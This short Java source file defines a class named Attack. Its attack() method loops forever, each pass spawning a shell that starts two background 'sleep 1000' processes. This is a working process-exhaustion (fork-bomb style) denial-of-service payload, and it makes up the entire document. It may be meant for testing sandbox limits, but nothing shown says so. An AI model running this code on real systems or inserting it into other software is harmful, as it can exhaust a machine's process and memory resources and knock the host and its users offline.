class Attack {
  static void attack() throws Exception {
    for (;;) new ProcessBuilder("/bin/sh", "-c", "sleep 1000 & sleep 1000").start();
  }
}
